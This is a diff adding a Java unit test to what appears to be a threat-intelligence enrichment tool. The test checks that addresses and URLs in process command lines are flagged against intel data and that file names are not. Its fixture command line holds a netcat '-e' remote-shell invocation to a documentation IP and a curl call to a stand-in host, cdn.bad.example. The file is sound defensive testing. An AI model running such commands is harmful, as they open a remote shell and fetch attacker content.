@@ -78,6 +78,35 @@ class KnownFinderTest {
   }
 
   @Test
+  void addressesAndUrlsInCommandsAreLookedUpAndNamesOfFilesAreNot() {
+    world.said.put(
+        "indicators 203.0.113.177",
+        new IntelAnswer.Found(
+            IntelFacts.of(IntelVerdict.MALICIOUS).detail("sources", "isac").build(), T));
+    world.said.put(
+        "indicators cdn.bad.example",
+        new IntelAnswer.Found(
+            IntelFacts.of(IntelVerdict.MALICIOUS).detail("sources", "isac").build(), T));
+
+    List<String> told =
+        told(
+            all(
+                Map.of(
+                    Columns.PROCESS_COMMAND_LINE,
+                    "sh -c 'nc 203.0.113.177 4444 -e run.sh; curl \"https://cdn.bad.example/a?b\""
+                        + " 10.0.0.1 tool-1.2.3.4 1.2.3.4.5 999.1.1.1'")));
+
+    assertThat(told)
+        .filteredOn(fact -> fact.startsWith("called malicious"))
+        .containsExactlyInAnyOrder(
+            "called malicious: 203.0.113.177: listed by isac",
+            "called malicious: cdn.bad.example: listed by isac");
+    assertThat(told.toString())
+        .contains("https://cdn.bad.example/a?b")
+        .doesNotContain("run.sh", "1.2.3.4", "10.0.0.1", "999.1");
+  }
+
+  @Test
   void whatAnIndicatorOnceSaidIsNoJudgementOfToday() {
     world.said.put(
         "indicators bad.example",
